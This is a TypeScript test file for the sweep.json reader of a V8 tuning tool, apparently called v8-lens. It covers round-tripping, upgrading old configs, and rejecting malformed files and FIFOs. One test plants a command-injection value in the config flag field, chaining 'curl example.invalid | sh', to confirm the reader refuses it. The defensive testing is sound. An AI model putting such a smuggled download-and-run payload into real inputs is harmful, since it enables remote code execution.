/**
 * sweep.json read back for the lab: what runSweep writes (and what it wrote before flags) comes
 * back normalized; a file of the wrong shape, a FIFO, or a flag that is not a flag name (the lab
 * writes `--<flag>=<value>` into package.json on Apply) is one line of reason and no result.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { summarizeSweep } from '../../../src/core/sweep/summarizeSweep';
import { readSweepFile } from '../../../src/core/sweep/sweepFile';
import { SEMI_SPACE_FLAG, type SweepResult } from '../../../src/shared/model/sweep';
import { ENV, SECTION8, SIZES, config, sweepRuns } from './sweepFixtures';
import { tempDir } from '../../../scripts/tempDirs';

function sweepJson(): SweepResult {
  const cfg = config(SIZES, 6);
  const summary = summarizeSweep(sweepRuns(SECTION8, SIZES, 6), cfg, ENV);
  return {
    schemaVersion: 1,
    tool: { name: 'v8-lens', version: 'test' },
    config: cfg,
    environment: ENV,
    startedAt: '2025-01-01T12:00:00.000Z',
    endedAt: '2025-01-01T12:30:00.000Z',
    status: 'finished',
    results: summary.results,
    recommendation: summary.recommendation,
    warnings: summary.warnings,
  };
}

function folderWith(text: string): string {
  const dir = tempDir('v8-lens-sweep-');
  writeFileSync(join(dir, 'sweep.json'), text);
  return dir;
}

describe('reading sweep.json back', () => {
  it('what runSweep writes comes back', async () => {
    const written = sweepJson();
    const { value, problem } = await readSweepFile(folderWith(JSON.stringify(written)));
    assert.equal(problem, null);
    assert.equal(value?.recommendation.value, written.recommendation.value);
    assert.equal(value?.config.flag, SEMI_SPACE_FLAG);
  });

  it('one written before flags (sizesMB, semiSpaceMB only) comes back up to date', async () => {
    const { flag: _f, values: _v, ...oldConfig } = config(SIZES, 6);
    const old = { ...sweepJson(), config: oldConfig, recommendation: { semiSpaceMB: 64, reason: 'kept' } };
    for (const setting of old.results) {
      for (const r of setting.runs) {
        delete (r as Partial<typeof r>).flag;
        delete (r as Partial<typeof r>).value;
      }
    }
    const { value, problem } = await readSweepFile(folderWith(JSON.stringify(old)));
    assert.equal(problem, null);
    assert.deepEqual(value?.config.values, SIZES);
  });

  it('a missing file is no result and no problem', async () => {
    assert.deepEqual(await readSweepFile(tempDir('v8-lens-sweep-')), { value: null, problem: null });
  });

  it('the wrong shape, one line each', async () => {
    for (const [text, problem] of [
      ['null', 'sweep.json: the file is null, not an object'],
      ['[]', 'sweep.json: the file is an array, not an object'],
      [JSON.stringify({ ...sweepJson(), results: [{ runs: [null] }] }), 'sweep.json: results[0].runs[0] is null, not an object'],
    ] as const) {
      assert.deepEqual(await readSweepFile(folderWith(text)), { value: null, problem }, text.slice(0, 40));
    }
  });

  it('a flag that is not a flag name never reaches Apply', async () => {
    const crafted = sweepJson();
    crafted.config.flag = 'max-semi-space-size=1 && curl example.invalid | sh #';
    const { value, problem } = await readSweepFile(folderWith(JSON.stringify(crafted)));
    assert.equal(value, null);
    assert.match(problem!, /^sweep\.json: config\.flag is ".*", not a flag name$/);
  });

  it('a FIFO named sweep.json is refused at once', async () => {
    const dir = tempDir('v8-lens-sweep-');
    execFileSync('mkfifo', [join(dir, 'sweep.json')]);
    assert.deepEqual(await readSweepFile(dir), { value: null, problem: 'sweep.json is a FIFO (named pipe), not a regular file' });
  });
});
